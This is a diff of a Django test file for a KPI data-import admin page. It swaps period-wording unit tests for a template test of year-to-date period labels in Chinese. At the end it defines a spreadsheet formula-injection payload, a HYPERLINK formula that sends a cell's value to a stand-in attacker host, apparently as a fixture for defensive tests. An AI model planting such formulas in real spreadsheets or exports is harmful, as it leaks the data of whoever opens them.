@@ -19,7 +19,6 @@ from django.utils.html import escape
 
 from kpis import roles
 from kpis.models import Actual
-from kpis.resources import period_wording
 from tests.conftest import make_user
 
 IMPORT_URL = "/admin/kpis/actual/import/"
@@ -510,27 +509,12 @@ def test_a_dry_run_confirmed_twice_imports_once_and_then_says_it_expired(entry, 
     assert shown("This import has expired. Upload the file again.") in again
 
 
-@pytest.mark.parametrize(
-    ("frequency", "period_end", "year_to_date", "wording"),
-    [
-        ("quarterly", datetime.date(2024, 6, 30), False, "2024年二季度"),
-        ("quarterly", datetime.date(2024, 6, 30), True, "2024年1–6月累计"),
-        ("monthly", datetime.date(2024, 3, 31), False, "2024年3月"),
-        ("monthly", datetime.date(2024, 1, 31), True, "2024年1月"),
-        ("annual", datetime.date(2024, 12, 31), True, "2024年"),
-    ],
-)
-def test_periods_are_worded_as_officials_name_them(frequency, period_end, year_to_date, wording):
-    with translation.override("zh-hans"):
-        assert period_wording(period_end, frequency, year_to_date) == wording
-
-
-def test_periods_are_worded_in_english_on_english_pages():
-    with translation.override("en"):
-        assert period_wording(datetime.date(2024, 6, 30), "quarterly") == "Q2 2024"
-        assert period_wording(datetime.date(2024, 6, 30), "quarterly", True) == (
-            "2024, months 1–6 (year to date)"
-        )
+def test_template_words_a_year_to_date_indicators_periods_as_the_months_it_sums(
+    entry, make_indicator, department
+):
+    make_indicator(department=department, target="100", reported_as="year_to_date")
+    _, header, rows = template_rows(entry)
+    assert rows[1][header.index("报告期")] == "2024年1–6月累计"
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
